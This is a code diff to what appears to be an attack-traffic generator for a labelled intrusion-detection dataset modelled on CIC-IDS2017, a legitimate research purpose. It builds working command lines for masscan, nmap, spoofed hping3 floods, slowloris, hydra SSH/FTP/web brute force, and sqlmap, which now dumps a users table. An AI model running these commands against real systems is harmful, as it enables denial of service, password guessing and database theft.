@@ -185,14 +185,19 @@ def _os_scan(ctx: AttackContext) -> list[str]:
 
 
 def _masscan(ctx: AttackContext) -> list[str]:
-    """masscan sends with its own TCP stack, so it is told its interface, addresses and the router's MAC."""
-    ports = ctx.n(2000, 50)
-    return ["masscan", ctx.victim.ipv4, f"-p1-{ports}", "--rate", "100", "--wait", "1", "--adapter",
-            ctx.attacker.iface, "--adapter-ip", ctx.attacker.ipv4, "--adapter-mac", ctx.attacker_mac,
-            "--router-mac", ctx.router_mac]  # fmt: skip
+    """masscan sends with its own TCP stack, so it is told its interface, addresses and the router's MAC.
+
+    Its receive thread blocks on a quiet link once the scan is done, so it never exits by itself
+    (robertdavidgraham/masscan#144): ``timeout`` interrupts it after its sending time and ``--wait``.
+    """
+    ports, rate = ctx.n(2000, 50), 100
+    return ["timeout", "--signal", "INT", "--kill-after", "3", str(ports // rate + 5), "masscan", ctx.victim.ipv4,
+            f"-p1-{ports}", "--rate", str(rate), "--wait", "1", "--adapter", ctx.attacker.iface, "--adapter-ip",
+            ctx.attacker.ipv4, "--adapter-mac", ctx.attacker_mac, "--router-mac", ctx.router_mac]  # fmt: skip
 
 
 # -- floods and slow attacks -----------------------------------------------------------------------
+STOPPED = (0, 124)  # timeout(1) exits 124 when it interrupted the tool, as it does for slowloris and masscan
 HPING_OK = (0, 1)  # 1: no reply at all, as for spoofed sources, ICMP to a host that rate-limits, UDP to a closed port
 
 
@@ -297,12 +302,16 @@ def _form_target(ctx: AttackContext) -> list[str]:
 
 
 def _sqlmap(ctx: AttackContext) -> list[str]:
-    """sqlmap at level 1, risk 1, without time-based tests at small scale (they sleep); output in workdir."""
+    """sqlmap at level 2 (level 1 has no boundary for the app's ``LIKE '%q%'``), risk 1, output in workdir.
+
+    At small scale no time-based or stacked tests (they sleep) and no dump: about 2 s; at scale 1 about 12 s.
+    """
     thorough = ctx.scale >= 0.5
     return ["sqlmap", "-u", ctx.url(Service.APP, "/search?q=lamp"), "-p", "q", "--batch", "--flush-session",
-            "--level", "1", "--risk", "1", "--threads", "2", "--timeout", "5", "--retries", "0",
-            "--technique", "BEUST" if thorough else "BU", "--time-sec", "1", *(["--tables"] if thorough else []),
-            "--disable-coloring", "--output-dir", str(ctx.workdir / "sqlmap")]  # fmt: skip
+            "--level", "2", "--risk", "1", "--threads", "2", "--timeout", "5", "--retries", "0",
+            "--technique", "BEUST" if thorough else "BU", "--time-sec", "1", "--tables",
+            *(["--dump", "-T", "users"] if thorough else []), "--disable-coloring", "--output-dir",
+            str(ctx.workdir / "sqlmap")]  # fmt: skip
 
 
 # -- the bot ---------------------------------------------------------------------------------------
@@ -325,7 +334,7 @@ _CATALOGUE = (
     Attack("nmap-version", _S, "Portscan", "nmap", None, _version_scan, 30, floor_s=30),
     Attack("nmap-udp", _S, "Portscan", "nmap", None, _udp_scan, 20, floor_s=20),
     Attack("nmap-os", _S, "Portscan", "nmap", None, _os_scan, 20, floor_s=15),
-    Attack("masscan", _S, "Portscan", "masscan", None, _masscan, 25, floor_s=8),
+    Attack("masscan", _S, "Portscan", "masscan", None, _masscan, 25, floor_s=8, ok_codes=STOPPED),
     # CIC-IDS2017's only flood class is DDoS (LOIC's HTTP, TCP and UDP floods); it has no ICMP flood.
     Attack("hping3-syn", _D, "DDoS", "hping3", _HTTP, _hping(_SYN, _HTTP), 30, ok_codes=HPING_OK),
     Attack("hping3-syn-spoofed", _D, "DDoS", "hping3", _HTTP, _hping(_SYN, _HTTP, True), 30, ok_codes=HPING_OK,
@@ -334,7 +343,7 @@ _CATALOGUE = (
     Attack("hping3-udp-spoofed", _D, "DDoS", "hping3", Service.DNS, _hping(_UDP, Service.DNS, True), 30,
            ok_codes=HPING_OK, spoofed=True),
     Attack("hping3-icmp", _D, "", "hping3", None, _hping(["--icmp"], None), 30, ok_codes=HPING_OK),
-    Attack("slowloris", _D, "DoS Slowloris", "slowloris", _HTTP, _slowloris, 30, ok_codes=(124,)),
+    Attack("slowloris", _D, "DoS Slowloris", "slowloris", _HTTP, _slowloris, 30, ok_codes=STOPPED),
     Attack("slowhttptest-headers", _D, "DoS Slowhttptest", "slowhttptest", _HTTP, _slowhttp(["-H"]), 30),
     Attack("slowhttptest-body", _D, "DoS Slowhttptest", "slowhttptest", _HTTP, _slowhttp(["-B", "-s", "8192"]), 30),
     Attack("slowhttptest-range", _D, "DoS Slowhttptest", "slowhttptest", _HTTP,
@@ -344,9 +353,9 @@ _CATALOGUE = (
     Attack("ab-flood", _D, "DoS Hulk", "ab", _HTTP, _ab, 10),
     Attack("siege-flood", _D, "DoS Hulk", "siege", _HTTP, _siege, 25, files=_siege_rc),
     Attack("hydra-ssh", _B, "SSH-Patator", "hydra", Service.SSH, _hydra("ssh", 4, _hydra_target(Service.SSH, "ssh")),
-           30, floor_s=10, files=_words_for("ssh", 300, 20)),
+           45, floor_s=10, files=_words_for("ssh", 200, 20)),
     Attack("hydra-ftp", _B, "FTP-Patator", "hydra", Service.FTP, _hydra("ftp", 4, _hydra_target(Service.FTP, "ftp")),
-           40, floor_s=10, files=_words_for("ftp", 150, 12)),
+           50, floor_s=10, files=_words_for("ftp", 60, 12)),
     Attack("hydra-http-form", _W, "Web Attack - Brute Force", "hydra", Service.APP, _hydra("app", 8, _form_target),
            30, floor_s=10, files=_words_for("app", 600, 30)),
     Attack("sqlmap", _W, "Web Attack - SQL Injection", "sqlmap", Service.APP, _sqlmap, 40, floor_s=30),
